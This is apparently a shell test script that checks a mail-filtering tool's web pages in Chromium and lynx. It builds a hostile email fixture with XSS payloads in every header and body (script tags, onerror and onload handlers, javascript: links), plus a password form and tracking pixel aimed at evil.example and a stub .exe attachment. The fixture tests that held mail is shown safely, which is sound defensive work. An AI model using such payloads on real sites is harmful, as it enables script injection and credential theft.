# Pages in a real Chromium: what every page must hold to (axe-core among it), and people's tasks from
# start to end with scripts off. browser.sh [smoke|matrix]; screenshots stay in $SHOTS.
# The browser is Debian's; playwright-core and axe-core come from npm by tests/web/package-lock.json
# (behind a proxy with a certificate of its own: npm config set cafile FILE).
. "$(dirname "$0")/lib.sh"
begin browser
need node npm chromium lynx
set_name=${1:-smoke}
modules=${WEB_MODULES:-${BUILD:-$dir}/web-modules}
export MODULES=$modules
if ! cmp -s "$MUSTER_SOURCE/tests/web/package-lock.json" "$modules/package-lock.json" || [ ! -d "$modules/node_modules/playwright-core" ]; then
    mkdir -p "$modules"
    cp "$MUSTER_SOURCE/tests/web/package.json" "$MUSTER_SOURCE/tests/web/package-lock.json" "$modules/"
    (cd "$modules" && timeout 300 npm ci --ignore-scripts --no-audit --no-fund) > "$dir/npm.log" 2>&1 ||
        skip "the packages of tests/web could not be had: $(tail -1 "$dir/npm.log")"
fi
conf_more='web { rate = 1000  burst = 10000 }
policy { block = hostile.example  on_block = quarantine }'
node_start

# Who works here, what is listed, and a held message with markup in every field.
export PASSWORD='correct horse staple'
echo "$PASSWORD" | m account add stew --roles steward,operator,reviewer > "$dir/account.out" 2>&1
printf 'From: Shop <a@shop.example>\nTo: ann@example.org\nSubject: Soap\n\nBuy soap at http://shop.example/soap today.\n' > "$dir/soap.eml"
case_code=$(m report "$dir/soap.eml" --json 2> "$dir/report.err" | sed -n 's/.*"code":"\([^"]*\)".*/\1/p' | head -1)
LISTING=$(m listing add shop.example --kind domain --harm spam --effect note \
    --reason "Sold soap to strangers" --evidence "$case_code" --json 2> "$dir/listing.err" | sed -n 's/.*"code":"\([^"]*\)".*/\1/p')
check "a listing to object to" test -n "$LISTING"
bad="\"'><script>alert(7)</script><img src=http://evil.example/x onerror=alert(7)>"
cat > "$dir/hostile.eml" << EML
From: $bad <a@hostile.example>
To: $bad <ann@example.org>
Subject: $bad
Message-ID: <$bad@hostile.example>
Reply-To: $bad <b@hostile.example>
List-Unsubscribe: <javascript:alert(7)>, <http://evil.example/$bad>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html; charset=utf-8

<html><script>alert(7)</script><body onload=alert(7)><a href="javascript:alert(7)">here</a>
<a href="http://evil.example/login">your bank</a><img src="http://evil.example/pixel"><svg onload=alert(7)>
<form action="http://evil.example"><input name=password></form><style>body{display:none}</style></body></html>
--b
Content-Type: application/x-msdownload; name="$bad.exe"
Content-Disposition: attachment; filename="$bad.exe"

MZ
--b--
EML
export MILTER_FROM=a@hostile.example
py milter "$milter_port" "$dir/hostile.eml" > "$dir/milter.out" 2>&1
at_most 30 sh -c "'$MUSTER' quarantine list --json --config '$dir/muster.conf' | grep -q hold"
held=$(m quarantine list --json 2> "$dir/held.err" | head -1)
HOSTILE=$(printf '%s' "$held" | sed -n 's/.*"hold":"\{0,1\}\([^",]*\).*/\1/p')
MESSAGE=$(printf '%s' "$held" | sed -n 's/.*"id":"\([^"]*\)".*/\1/p')
check "a hostile message is held" test -n "$HOSTILE"
export LISTING HOSTILE MESSAGE
printf 'Yes, write to me once a month.\n' > "$dir/text"
timeout 60 "$MUSTER" receipt key "$dir/receipt.key" > "$dir/key.out" 2>&1
timeout 60 "$MUSTER" receipt make --key "$dir/receipt.key" --address anna@example.org \
    --sender "Seifen Huber" --what "newsletter, monthly" --how "web form" --text "$dir/text" \
    --when 2026-01-05T10:00:00Z > "$dir/receipt.json" 2> "$dir/receipt.err"
check "a receipt to verify" test -s "$dir/receipt.json"
for page in report case law listings library; do
    check "/$page in a text browser" sh -c "lynx -dump -nolist 'http://127.0.0.1:$web_port/$page' | grep -q '[A-Z]'"
done
export URL="http://127.0.0.1:$web_port" SHOTS="${SHOTS:-${BUILD:-$dir}/screenshots}" RECEIPT="$dir/receipt.json"
export MUSTER_SOURCE HOME="$dir"
timeout "${BROWSER_SECONDS:-800}" node "$MUSTER_SOURCE/tests/web/$set_name.mjs" > "$dir/browser.out" 2>&1
rc=$?
cat "$dir/browser.out"
equal "the browser's tests" 0 "$rc"
check "the node lives on" node_alive
finish
